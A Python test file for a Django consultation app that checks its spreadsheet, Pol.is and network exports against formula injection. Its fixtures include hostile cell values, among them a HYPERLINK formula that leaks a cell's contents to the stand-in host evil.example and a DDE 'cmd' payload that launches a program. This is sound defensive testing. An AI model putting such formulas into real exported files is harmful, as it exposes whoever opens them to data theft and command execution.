"""Every file a facilitator may open in a spreadsheet is safe to open: no text cell starts a formula.

Statements, a conversation title, organisation names, a round name and an interdependency's description are all
chosen to begin with ``=``, ``+``, ``-``, ``@`` or a tab (OWASP's list). Each export is downloaded the way a
facilitator gets it, and every cell of every CSV is checked: a cell that begins with one of those characters
must be a number (a vote of -1 stays -1). The Kumu workbook must hold strings as strings, never formulas. A
Pol.is zip of ours imports back to the same texts.
"""

from __future__ import annotations

import csv
import io
import zipfile

import networkx as nx
import pytest
from django.urls import reverse
from openpyxl import load_workbook

from commonweal.conversations.models import Statement
from commonweal.conversations.polis_import.actions import check_import_polis
from commonweal.core.spreadsheet import FORMULA_TRIGGERS
from tests.factories import (
    make_api_token,
    make_conversation,
    make_facilitator,
    make_interdependency,
    make_organisation,
    make_participant,
    make_response,
    make_round,
    make_statement,
    make_system,
    make_vote,
    rate,
)

pytestmark = pytest.mark.django_db

TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+44 is a phone code", "-1 for cuts", "@SUM(1+1)"]
ORGANISATIONS = ["=cmd|' /C calc'!A0", "+Riverside Carers", "@Riverside Council"]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_safe_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    unsafe = [c for row in rows for c in row if c[:1] in FORMULA_TRIGGERS and not _is_number(c)]
    assert not unsafe, f"cells that would run as formulas: {unsafe}"
    return rows


@pytest.fixture
def world(client):
    system = make_system(slug="riverside")
    facilitator = make_facilitator(system, username="fran")
    conversation = make_conversation(system, slug="hostile", title="=Our strategy", question="-What now?")
    statements = [make_statement(conversation, text) for text in TEXTS]
    for i in range(6):
        person = make_participant(system, conversation=conversation)
        for statement in statements:
            make_vote(person, statement, value=[-1, 0, 1][(i + statement.pk) % 3])
    organisations = [make_organisation(system, name=name) for name in ORGANISATIONS]
    survey_round = make_round(system, name="-2026 round")
    for organisation in organisations:
        response = make_response(survey_round, organisation)
        for partner in organisations:
            if partner != organisation:
                rate(response, partner, intensity=2, trust=(3, 3, 3))
    make_interdependency(system, organisations[0], organisations[1], description="=1+1 discharges wait")
    client.force_login(facilitator)
    return {
        "client": client,
        "system": system,
        "conversation": conversation,
        "round": survey_round,
        "token": make_api_token(facilitator),
        "facilitator": facilitator,
    }


def _get(client, url, **headers):
    response = client.get(url, **headers)
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_statements_csv_guards_texts_and_keeps_numbers(world):
    page = _get(world["client"], reverse("reports:export_statements", args=["hostile"]))
    api = _get(
        world["client"],
        "/api/manage/conversations/hostile/exports/statements",
        HTTP_AUTHORIZATION=f"Bearer {world['token']}",
    )
    assert page == api
    rows = _assert_safe_csv(page.decode("utf-8"))
    texts = [row[1] for row in rows[1:]]
    assert texts == ["'" + t for t in TEXTS]
    assert all(_is_number(row[4]) for row in rows[1:])  # the agree counts are numbers, not guarded text


def test_the_polis_zip_guards_comment_texts_and_the_summary_and_keeps_votes_as_numbers(world):
    content = _get(world["client"], reverse("reports:export_polis", args=["hostile"]))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        files = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    comments = list(csv.DictReader(io.StringIO(files["comments.csv"])))
    assert [c["comment-body"] for c in comments] == ["'" + t for t in TEXTS]
    summary = dict(_assert_safe_csv(files["summary.csv"]))
    assert summary["topic"] == "'=Our strategy"
    assert summary["conversation-description"] == "'-What now?"
    for name in ("comments.csv", "votes.csv", "participants-votes.csv"):
        _assert_safe_csv(files[name])
    votes = [row[-1] for row in list(csv.reader(io.StringIO(files["votes.csv"])))[1:]]
    assert "-1" in votes  # a disagree vote is the number -1, not the text '-1


def test_our_polis_zip_imports_back_to_the_same_texts(world):
    content = _get(world["client"], reverse("reports:export_polis", args=["hostile"]))
    imported = check_import_polis(world["facilitator"], world["system"], {"polis.zip": content})
    texts = list(
        Statement.objects.filter(conversation=imported).order_by("pk").values_list("text", flat=True)
    )
    assert texts == TEXTS
    assert imported.title == "=Our strategy"


def test_the_network_csv_guards_names_and_keeps_numbers(world):
    url = reverse("network:export", args=["riverside", "csv"]) + f"?round={world['round'].pk}"
    rows = _assert_safe_csv(_get(world["client"], url).decode("utf-8"))
    header = rows[0]
    names = {row[header.index("organisation")] for row in rows[1:]}
    assert names == {"'" + name for name in ORGANISATIONS}
    assert all(_is_number(row[header.index("intensity")]) for row in rows[1:])


def test_the_kumu_workbook_writes_every_string_as_a_string(world):
    url = reverse("network:export", args=["riverside", "kumu"]) + f"?round={world['round'].pk}"
    book = load_workbook(io.BytesIO(_get(world["client"], url)))
    strings = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    strings.append(cell.value)
    # In a workbook a string cell is never run, so the names are kept exactly (no quote added).
    assert set(ORGANISATIONS) <= set(strings)
    assert any(": =1+1 discharges wait" in s for s in strings)


def test_the_graphml_carries_names_as_they_are(world):
    # GraphML is read by graph tools (Gephi, yEd), not spreadsheets: names stay exact, escaped as XML.
    url = reverse("network:export", args=["riverside", "graphml"]) + f"?round={world['round'].pk}"
    graph = nx.read_graphml(io.BytesIO(_get(world["client"], url)))
    assert {data["name"] for _, data in graph.nodes(data=True)} >= set(ORGANISATIONS)


def test_the_survey_links_file_guards_names(world):
    url = reverse("network:round_links_csv", args=["riverside", world["round"].pk])
    rows = _assert_safe_csv(_get(world["client"], url).decode("utf-8"))
    assert {row[0] for row in rows[1:]} == {"'" + name for name in ORGANISATIONS}
    assert {row[3] for row in rows[1:]} == {"'-2026 round"}


@pytest.mark.parametrize(
    "name",
    ["systems:organisation_import_template", "network:import_template"],
)
def test_the_import_templates_are_safe_files(world, name):
    _assert_safe_csv(_get(world["client"], reverse(name, args=["riverside"])).decode("utf-8"))
